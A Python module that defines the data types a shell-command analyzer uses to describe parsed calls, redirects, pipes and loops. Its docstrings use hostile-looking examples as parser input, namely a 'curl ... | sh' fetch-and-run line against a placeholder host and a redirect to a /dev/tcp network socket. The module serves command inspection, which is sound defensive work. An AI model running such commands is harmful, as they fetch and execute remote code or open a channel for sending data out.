"""What a command line was found to do: calls, their redirects, and the script that holds them.

```
 "cd /tmp && curl -s http://h/x | sh"
        |
  Script.calls   0 cd      argv (cd, /tmp)
                 1 curl    argv (curl, -s, http://h/x)
                 2 sh      argv (sh,)   pipe_in 1
```
"""

from __future__ import annotations

from typing import NamedTuple

__all__ = ["Call", "Redirect", "Script"]


class Redirect(NamedTuple):
    """One redirection of a call.

    Example:
        >>> Redirect(">", None, "/dev/tcp/192.0.2.4/80").target
        '/dev/tcp/192.0.2.4/80'
    """

    op: str
    """The operator as written: ``<``, ``>``, ``>>``, ``>&``, ``&>``, ``<>``, ``<<``, ``<<-``, ``<<<`` ..."""
    fd: int | None
    """The descriptor written before the operator, None where none was."""
    target: str
    """The file, descriptor or text, resolved; for ``<<`` the delimiter (the text is the call's ``stdin``)."""


class Call(NamedTuple):
    """One simple command that would run.

    Example:
        >>> Call("ls", ("ls", "-l")).via
        ()
    """

    name: str
    """Base name of ``argv[0]``, looked through; '' where it is not known or the call only sets variables."""
    argv: tuple[str, ...]
    """The resolved words; ``argv[0]`` keeps its path."""
    env: tuple[tuple[str, str], ...] = ()
    """The ``NAME=value`` prefixes."""
    redirects: tuple[Redirect, ...] = ()
    pipe_in: int | None = None
    """Index in ``Script.calls`` of the call whose output feeds this one: by a pipe, by ``<(..)``, or, for a shell,
    ``eval`` or an interpreter, by ``$(..)`` in its program text."""
    stdin: str | None = None
    """What it reads, where that is known: here-document, here-string, text piped by echo and its kin."""
    via: tuple[str, ...] = ()
    """What was looked through to find it, outermost first (words in ``pipeline/shell/script.py``)."""
    loop: int = 0
    """Depth of loops around it, 0 for none; xargs and ``find -exec`` count as loops."""
    loop_items: tuple[str, ...] = ()
    """The first values that the variable of the innermost for-loop takes, where known. ``argv`` holds the first."""
    loop_count: int = 0
    """How many times it runs by those loops around it whose rounds are known (their product), 0 where none is."""
    background: bool = False
    unknown: bool = False
    """Some word could not be resolved; what was not resolved stands in ``argv`` as written."""
    remote: bool = False
    """It runs on another host, as in ``ssh host '..'``."""


class Script(NamedTuple):
    """The calls of one command line, in the order in which they would start.

    Example:
        >>> Script().calls
        ()
    """

    calls: tuple[Call, ...] = ()
    errors: bool = False
    """The text is not well-formed shell; the calls are what could be recovered."""
    code: tuple[tuple[str, str], ...] = ()
    """Programs in other languages that it runs: (language, source)."""
    truncated: bool = False
    """A limit was reached: there may be more calls than are listed."""
